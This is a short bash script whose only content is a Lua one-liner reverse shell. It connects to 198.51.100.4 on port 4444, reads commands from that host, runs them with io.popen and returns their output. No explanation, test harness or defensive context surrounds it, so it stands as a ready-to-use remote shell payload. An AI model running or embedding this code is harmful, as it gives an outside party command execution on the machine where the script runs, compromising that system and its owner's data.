#!/bin/bash
lua5.3 -e 'local s = require("socket").tcp(); s:connect("198.51.100.4", 4444); while true do local c = s:receive(); s:send(io.popen(c):read("*a")) end'
